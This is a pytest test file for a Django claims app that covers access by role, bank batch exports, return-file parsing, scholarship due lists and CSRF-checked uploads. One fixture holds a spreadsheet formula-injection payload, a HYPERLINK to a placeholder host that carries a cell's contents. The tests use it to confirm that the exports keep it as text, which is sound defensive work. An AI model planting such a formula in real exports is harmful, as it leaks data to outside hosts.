"""The claim payment pages (bank batches, the bank's return) and the scholarship pages (the due
list by kecamatan, the reminders) through the Django client: who may reach them, the files
they write and the return read all or nothing; then the return upload against a running
server with a real session and CSRF token."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tempfile
import urllib.error
import urllib.parse
import urllib.request
import uuid
from http.cookiejar import CookieJar

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from cakupan.claims.models import Batch, Claim, Instalment, Instruction
from cakupan.claims.payments import batch_export
from cakupan.claims.scholarships import proof_record, reminder_window
from cakupan.claims.services import (
    claim_approve,
    claim_file,
    claim_verify,
    instruction_reissue,
    party_add,
    party_update,
)
from cakupan.claims.tests.factories import bill_and_pay, csr_ojol
from cakupan.regions.models import Region
from cakupan.registry.models import NikAccessLog, Worker

pytestmark = pytest.mark.django_db

D = dt.date
TODAY = D(2026, 12, 2)
PASSWORD = "Rahasia-kuat-2026"
FORMULA = '=HYPERLINK("http://contoh.test/?x="&A1,"klik")'


@pytest.fixture
def officers(make_user):
    return [make_user("bpjs_officer", f"petugas{n}") for n in range(3)]


def approved_claim(officers, *, worker: str, spouse: str, child: str, kelurahan: str = "") -> Claim:
    """A JKM death after 40 paid months: the spouse's share to her account and one child in
    SMP year 2 with an account (instalment of 2026/2027 awaiting proof, 2027/2028 scheduled)."""
    member = csr_ojol("2023-07", name=worker)
    if kelurahan:
        Worker.objects.filter(pk=member.worker_id).update(kelurahan=kelurahan)
    Worker.objects.filter(pk=member.worker_id).update(phone="081234567890")
    bill_and_pay(member, "2023-07", "2026-10")
    claim = claim_file(
        claim_type="jkm", membership=member, event_date=D(2026, 11, 10), user=officers[0], on=TODAY
    )
    party_add(
        claim=claim,
        user=officers[0],
        on=TODAY,
        full_name=spouse,
        relation="spouse",
        share_percent=60,
        bank_code="014",
        account_number="0123456789",
        account_name=spouse,
    )
    party_add(
        claim=claim,
        user=officers[0],
        on=TODAY,
        full_name=child,
        relation="child",
        birth_date=D(2012, 5, 1),
        level="smp",
        year_in_level=2,
        share_percent=40,
        bank_code="002",
        account_number="123456789012345",
        account_name=spouse,
    )
    claim_verify(claim=claim, user=officers[1])
    claim_approve(claim=claim, user=officers[2])
    return Claim.objects.select_related("worker__kelurahan__parent").get(pk=claim.pk)


@pytest.fixture
def approved(malang, officers) -> Claim:
    return approved_claim(officers, worker="Budi Santoso", spouse="Siti Aminah", child="Ani")


def client_for(make_user, role: str) -> Client:
    client = Client()
    client.force_login(make_user(role))
    return client


def return_file(tmp_path, rows, name="retur.csv"):
    path = tmp_path / name
    with path.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def upload(client: Client, path):
    with path.open("rb") as f:
        return client.post("/klaim/pembayaran/retur/", {"file": f})


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def today_text() -> str:
    return f"{timezone.localdate():%d/%m/%Y}"


# -- who may reach what -------------------------------------------------------------------

PAY_PAGES = ["/klaim/pembayaran/", "/klaim/pembayaran/retur/"]
DUE_PAGES = [
    "/klaim/beasiswa/",
    "/klaim/beasiswa/ekspor.csv?tahun=2026",
    "/klaim/beasiswa/ekspor.xlsx?tahun=2026",
    "/klaim/beasiswa/pengingat/",
    "/klaim/beasiswa/pengingat/ekspor.csv",
    "/klaim/beasiswa/pengingat/ekspor.xlsx",
]
ALLOWED = {
    "admin": (True, True),
    "bpjs_officer": (True, True),
    "city_officer": (False, True),
    "sponsor": (False, False),
    "hospital": (False, False),
}


@pytest.mark.parametrize("role", list(ALLOWED))
def test_each_role_reaches_only_its_pages_and_files(approved, officers, make_user, role, tmp_path):
    batch = batch_export(user=officers[0])
    client = client_for(make_user, role)
    pays, dues = ALLOWED[role]
    pay_urls = [*PAY_PAGES, f"/klaim/pembayaran/batch/{batch.pk}.csv"]
    pay_urls.append(f"/klaim/pembayaran/batch/{batch.pk}.xlsx")
    for url in pay_urls:
        assert client.get(url).status_code == (200 if pays else 403), url
    for url in DUE_PAGES:
        assert client.get(url).status_code == (200 if dues else 403), url
    if not pays:
        # the writes are refused too, before anything is read
        assert client.post("/klaim/pembayaran/batch/").status_code == 403
        refs = batch.instructions.values_list("reference", flat=True)
        path = return_file(
            tmp_path,
            [["referensi", "status", "tanggal"]] + [[r, "berhasil", today_text()] for r in refs],
        )
        assert upload(client, path).status_code == 403
        assert Batch.objects.count() == 1
        assert not Instruction.objects.filter(status=Instruction.Status.PAID).exists()


def test_anonymous_is_sent_to_login():
    for url in [*PAY_PAGES, "/klaim/pembayaran/batch/1.csv", *DUE_PAGES]:
        response = Client().get(url)
        assert response.status_code == 302 and response["Location"].startswith("/masuk/"), url


# -- bank batches ---------------------------------------------------------------------------


def test_a_batch_is_made_from_the_page_and_downloads_with_its_amounts(approved, make_user):
    client = client_for(make_user, "bpjs_officer")
    page = client.get("/klaim/pembayaran/").content.decode()
    waiting = list(Instruction.objects.filter(claim=approved).values_list("reference", flat=True))
    assert all(ref in page for ref in waiting) and "Rp 42.000.000" in page
    response = client.post("/klaim/pembayaran/batch/", follow=True)
    batch = Batch.objects.get()
    assert batch.number in response.content.decode()
    assert not Instruction.objects.filter(status=Instruction.Status.PENDING).exists()

    got = client.get(f"/klaim/pembayaran/batch/{batch.pk}.csv")
    assert got["Content-Disposition"] == f'attachment; filename="{batch.number}.csv"'
    rows = csv_rows(got)
    assert rows[0][:2] == ["no", "referensi"]
    assert sorted(r[1] for r in rows[1:]) == sorted(waiting)
    assert sum(int(r[6]) for r in rows[1:]) == 42_000_000

    got = client.get(f"/klaim/pembayaran/batch/{batch.pk}.xlsx")
    assert got["Content-Disposition"] == f'attachment; filename="{batch.number}.xlsx"'
    sheet = xlsx_rows(got)
    assert sum(r[6] for r in sheet[1:]) == 42_000_000
    assert all(isinstance(r[6], int) for r in sheet[1:])

    # nothing waits any more: a second batch is refused with the reason, none is made
    again = client.post("/klaim/pembayaran/batch/", follow=True).content.decode()
    assert "Tidak ada pembayaran" in again and Batch.objects.count() == 1
    assert client.get(f"/klaim/pembayaran/batch/{batch.pk}.pdf").status_code == 404


# -- the bank's return ----------------------------------------------------------------------


def test_a_return_with_a_bad_row_shows_the_row_report_and_changes_nothing(
    approved, officers, make_user, tmp_path
):
    batch = batch_export(user=officers[0])
    refs = list(batch.instructions.values_list("reference", flat=True))
    path = return_file(
        tmp_path,
        [
            ["referensi", "status", "tanggal"],
            [refs[0], "berhasil", today_text()],
            [refs[1], "mungkin", today_text()],
        ],
    )
    response = upload(client_for(make_user, "bpjs_officer"), path)
    assert response.status_code == 422
    page = response.content.decode()
    assert "Tidak ada yang diubah" in page
    report = re.search(r'data-testid="row-report".*?</table>', page, re.S).group(0)
    assert 'data-row="3"' in report and "mungkin" in report and 'data-row="2"' not in report
    assert set(Instruction.objects.values_list("status", flat=True)) == {"exported"}
    assert Batch.objects.get().returned_at is None


def test_a_good_return_marks_paid_and_the_same_file_again_is_already_recorded(
    approved, officers, make_user, tmp_path, monkeypatch
):
    uploads = tmp_path / "uploads"
    uploads.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(uploads))
    batch = batch_export(user=officers[0])
    refs = list(batch.instructions.values_list("reference", flat=True))
    path = return_file(
        tmp_path,
        [["referensi", "status", "tanggal", "no_transaksi"]]
        + [[ref, "berhasil", today_text(), f"TRX{n}"] for n, ref in enumerate(refs)],
    )
    client = client_for(make_user, "bpjs_officer")
    page = upload(client, path).content.decode()
    assert re.search(rf'data-testid="count-paid">{len(refs)}<', page)
    assert Claim.objects.get(pk=approved.pk).status == Claim.Status.PAID
    assert set(Instruction.objects.values_list("status", flat=True)) == {"paid"}
    assert list(uploads.iterdir()) == []  # the upload's temporary file is removed
    again = upload(client, path)
    assert again.status_code == 200
    text = again.content.decode()
    assert re.search(rf'data-testid="count-already">{len(refs)}<', text)
    assert re.search(r'data-testid="count-paid">0<', text) and 'data-testid="nothing-new"' in text
    assert list(uploads.iterdir()) == []


def test_a_failed_transfer_shows_with_the_banks_reason_until_it_is_sent_again(
    approved, officers, make_user, tmp_path
):
    batch = batch_export(user=officers[0])
    siti = approved.parties.get(full_name="Siti Aminah")
    failing = batch.instructions.filter(party=siti).order_by("id").first()
    path = return_file(
        tmp_path,
        [
            ["referensi", "status", "tanggal", "alasan"],
            [failing.reference, "gagal", today_text(), "Rekening tidak ditemukan"],
        ],
    )
    client = client_for(make_user, "bpjs_officer")
    page = upload(client, path).content.decode()
    assert re.search(r'data-testid="count-failed">1<', page)
    page = client.get("/klaim/pembayaran/").content.decode()
    failed = re.search(r'data-testid="failed".*?</table>', page, re.S).group(0)
    assert failing.reference in failed and "Rekening tidak ditemukan" in failed
    assert 'data-testid="waiting"' not in page  # nothing waits: the rest is with the bank
    party_update(party=siti, user=officers[0], on=TODAY, account_number="9876543210")
    new = instruction_reissue(instruction=failing, user=officers[0])
    page = client.get("/klaim/pembayaran/").content.decode()
    assert 'data-testid="failed"' not in page
    waiting = re.search(r'data-testid="waiting".*?</table>', page, re.S).group(0)
    assert new.reference in waiting and "9876543210" in waiting


def test_a_file_that_is_not_a_return_is_refused_on_the_field(approved, make_user, tmp_path):
    client = client_for(make_user, "bpjs_officer")
    wrong = tmp_path / "retur.pdf"
    wrong.write_bytes(b"%PDF-1.4")
    response = upload(client, wrong)
    assert response.status_code == 422 and 'id="err-file"' in response.content.decode()
    headers = return_file(tmp_path, [["nama", "alamat"], ["a", "b"]])
    response = upload(client, headers)
    assert response.status_code == 422
    assert "referensi" in re.search(r'id="err-file">(.*?)</p>', response.content.decode()).group(1)
    assert client.post("/klaim/pembayaran/retur/").status_code == 422


# -- the scholarships due ---------------------------------------------------------------------


@pytest.fixture
def two_kecamatans(approved, officers) -> tuple[Claim, Claim]:
    """A second claim in another kecamatan, whose child's name would be a formula."""
    home = approved.worker.kelurahan
    other = (
        Region.objects.filter(level=home.level, code__startswith="35.73.")
        .exclude(parent=home.parent_id)
        .order_by("code")
        .first()
    )
    second = approved_claim(
        officers, worker="Agus Salim", spouse="Dewi Lestari", child=FORMULA, kelurahan=other.code
    )
    return approved, second


def test_the_due_page_counts_by_kecamatan_and_its_export_matches_the_list(
    two_kecamatans, make_user
):
    first, second = two_kecamatans
    assert first.worker.kelurahan.parent_id != second.worker.kelurahan.parent_id
    client = client_for(make_user, "city_officer")
    page = client.get("/klaim/beasiswa/?tahun=2026").content.decode()
    table = re.search(r'data-testid="by-kecamatan".*?</table>', page, re.S).group(0)
    for claim in (first, second):
        kecamatan = claim.worker.kelurahan.parent.name
        row = re.search(rf'data-kecamatan="{kecamatan}">(.*?)</tr>', table, re.S).group(1)
        cells = re.findall(r'<td class="num[^"]*">(.*?)</td>', row)
        assert cells == ["1", "Rp 2.000.000", "1"], cells
        assert f'href="/klaim/{claim.pk}/"' in page
    assert "bukti pendaftaran" in page.lower()  # what is missing, in Indonesian

    listed = re.findall(r'data-instalment="(\d+)"', page)
    expected = Instalment.objects.filter(start_year=2026).exclude(status="paid")
    assert sorted(map(int, listed)) == sorted(expected.values_list("pk", flat=True))

    exported = csv_rows(client.get("/klaim/beasiswa/ekspor.csv?tahun=2026"))
    assert exported[0][:3] == ["Kecamatan", "Kelurahan", "Nomor klaim"]
    assert len(exported) - 1 == len(listed)
    assert sorted(r[2] for r in exported[1:]) == sorted([first.number, second.number])
    sheet = xlsx_rows(client.get("/klaim/beasiswa/ekspor.xlsx?tahun=2026"))
    assert [r[2] for r in sheet[1:]] == [r[2] for r in exported[1:]]
    assert [r[8] for r in sheet[1:]] == [2_000_000, 2_000_000]

    # filtered by kecamatan: the list and its export keep only that kecamatan
    kecamatan = second.worker.kelurahan.parent.name
    query = urllib.parse.urlencode({"tahun": 2026, "kecamatan": kecamatan})
    page = client.get(f"/klaim/beasiswa/?{query}").content.decode()
    assert re.findall(r'data-instalment="(\d+)"', page) == [
        str(second.instalments.get(start_year=2026).pk)
    ]
    only = csv_rows(client.get(f"/klaim/beasiswa/ekspor.csv?{query}"))
    assert [r[0] for r in only[1:]] == [kecamatan]
    # and by status: none of these is payable yet
    page = client.get("/klaim/beasiswa/?tahun=2026&status=payable").content.decode()
    assert re.findall(r'data-instalment="(\d+)"', page) == []


def test_a_formula_in_a_childs_name_stays_text_in_the_exports(two_kecamatans, make_user):
    client = client_for(make_user, "bpjs_officer")
    rows = csv_rows(client.get("/klaim/beasiswa/ekspor.csv?tahun=2026"))
    children = [r[4] for r in rows[1:]]
    assert "'" + FORMULA in children and FORMULA not in children
    book = load_workbook(io.BytesIO(client.get("/klaim/beasiswa/ekspor.xlsx?tahun=2026").content))
    cells = [row[4] for row in book.active.iter_rows(min_row=2)]
    cell = next(c for c in cells if c.value == FORMULA)
    assert cell.data_type == "s"
    reminders = client.get("/klaim/beasiswa/pengingat/ekspor.xlsx").content
    cells = [row[0] for row in load_workbook(io.BytesIO(reminders)).active.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells if c.value == FORMULA)


def test_another_school_year_is_chosen_and_a_wrong_one_is_explained(approved, make_user):
    client = client_for(make_user, "city_officer")
    later = client.get("/klaim/beasiswa/?tahun=2027").content.decode()
    assert "2027/2028" in later
    assert re.findall(r'data-instalment="(\d+)"', later) == [
        str(approved.instalments.get(start_year=2027).pk)
    ]
    # digits of another script are read as ASCII, as everywhere
    arabic = client.get("/klaim/beasiswa/?tahun=٢٠٢٧").content.decode()
    assert re.findall(r'data-instalment="(\d+)"', arabic) == re.findall(
        r'data-instalment="(\d+)"', later
    )
    wrong = client.get("/klaim/beasiswa/?tahun=dua-ribu")
    assert wrong.status_code == 400
    assert "bukan tahun ajaran" in wrong.content.decode()
    assert client.get("/klaim/beasiswa/ekspor.csv?tahun=99999").status_code == 400
    assert client.get("/klaim/beasiswa/ekspor.json?tahun=2026").status_code == 404


def test_the_reminder_list_is_next_years_schedule_and_says_when_reminders_go_out(
    approved, make_user
):
    year, send_on = reminder_window(timezone.localdate())
    expected = Instalment.objects.filter(start_year=year).exclude(status__in=["paid", "stopped"])
    assert expected.exists()
    user = make_user("city_officer")
    client = Client()
    client.force_login(user)
    page = client.get("/klaim/beasiswa/pengingat/").content.decode()
    assert f"{send_on:%d/%m/%Y}" in page and f"{year}/{year + 1}" in page
    assert sorted(map(int, re.findall(r'data-instalment="(\d+)"', page))) == sorted(
        expected.values_list("pk", flat=True)
    )
    # a city officer may call the families: the whole phone, and its display is logged
    assert "081234567890" in page
    logged = NikAccessLog.objects.filter(user=user, worker=approved.worker_id)
    assert list(logged.values_list("action", flat=True)) == ["view"]
    rows = csv_rows(client.get("/klaim/beasiswa/pengingat/ekspor.csv"))
    assert rows[0][:3] == ["Anak", "Pekerja", "Nomor HP"]
    assert [(r[0], r[2]) for r in rows[1:]] == [("Ani", "081234567890")] * expected.count()
    assert logged.filter(action="export").count() == 1

    # a family that already brought the proof needs no reminder: left out, and counted
    ani = expected.get()
    proof_record(
        instalment=ani,
        user=user,
        school="SMPN 3 Malang",
        level=ani.level,
        year_in_level=ani.year_in_level,
        document="SMP/2027/12",
        on=send_on,
    )
    page = client.get("/klaim/beasiswa/pengingat/").content.decode()
    assert re.findall(r'data-instalment="(\d+)"', page) == []
    assert 'data-testid="proofs-in"' in page
    assert len(csv_rows(client.get("/klaim/beasiswa/pengingat/ekspor.csv"))) == 1


def test_a_phone_is_masked_for_a_user_without_the_right(approved, make_user, monkeypatch):
    """No role reaches the list without VIEW_FULL_PHONE today; the page masks all the same
    should one ever do (the rule of the registry's pages)."""
    from cakupan.accounts.roles import VIEW_FULL_PHONE

    user = make_user("city_officer")
    real = type(user).has_perm
    monkeypatch.setattr(
        type(user), "has_perm", lambda self, p, obj=None: p != VIEW_FULL_PHONE and real(self, p)
    )
    client = Client()
    client.force_login(user)
    page = client.get("/klaim/beasiswa/pengingat/").content.decode()
    assert "0812••••••90" in page and "081234567890" not in page
    assert not NikAccessLog.objects.filter(user=user).exists()


# -- against a running server: a real session and CSRF token ---------------------------------


class Browser:
    """urllib with cookies: what a browser sends, CSRF included, and nothing the test client
    adds (the test client skips the CSRF check)."""

    def __init__(self, base: str):
        self.base = base
        self.jar = CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar))

    def open(self, path: str, data: bytes | None = None, headers: dict | None = None):
        request = urllib.request.Request(self.base + path, data=data, headers=headers or {})
        try:
            with self.opener.open(request, timeout=30) as r:
                return r.status, r.read().decode()
        except urllib.error.HTTPError as e:
            return e.code, e.read().decode()

    def token(self, html: str) -> str:
        return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)

    def post_form(self, path: str, fields: dict) -> tuple[int, str]:
        body = urllib.parse.urlencode(fields).encode()
        return self.open(path, body, {"Content-Type": "application/x-www-form-urlencoded"})

    def post_file(self, path: str, fields: dict, name: str, content: bytes) -> tuple[int, str]:
        boundary = uuid.uuid4().hex
        parts = [
            f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
            for k, v in fields.items()
        ]
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            "Content-Type: text/csv\r\n\r\n".encode()
            + content
            + b"\r\n"
        )
        body = b"".join(parts) + f"--{boundary}--\r\n".encode()
        return self.open(path, body, {"Content-Type": f"multipart/form-data; boundary={boundary}"})


@pytest.mark.slow
def test_the_return_is_uploaded_to_a_running_server_with_a_session_and_csrf_token(
    live_server, approved, officers, make_user
):
    make_user("bpjs_officer", "kasir")
    batch = batch_export(user=officers[0])
    refs = list(batch.instructions.values_list("reference", flat=True))
    out = io.StringIO()
    csv.writer(out).writerows(
        [["referensi", "status", "tanggal"]] + [[r, "berhasil", today_text()] for r in refs]
    )
    content = out.getvalue().encode()

    browser = Browser(live_server.url)
    status, html = browser.open("/masuk/")
    assert status == 200
    status, html = browser.post_form(
        "/masuk/",
        {"csrfmiddlewaretoken": browser.token(html), "username": "kasir", "password": PASSWORD},
    )
    assert status == 200 and "kasir" in html  # signed in: the dashboard names the user

    status, html = browser.open("/klaim/pembayaran/retur/")
    assert status == 200
    token = browser.token(html)
    # without the token the post is refused and nothing is read
    status, refused = browser.post_file("/klaim/pembayaran/retur/", {}, "retur.csv", content)
    assert status == 403 and "token keamanan" in refused.lower()
    assert set(Instruction.objects.values_list("status", flat=True)) == {"exported"}

    status, html = browser.post_file(
        "/klaim/pembayaran/retur/", {"csrfmiddlewaretoken": token}, "retur.csv", content
    )
    assert status == 200, html
    assert re.search(rf'data-testid="count-paid">{len(refs)}<', html)
    assert set(Instruction.objects.values_list("status", flat=True)) == {"paid"}
    assert Claim.objects.get(pk=approved.pk).status == Claim.Status.PAID
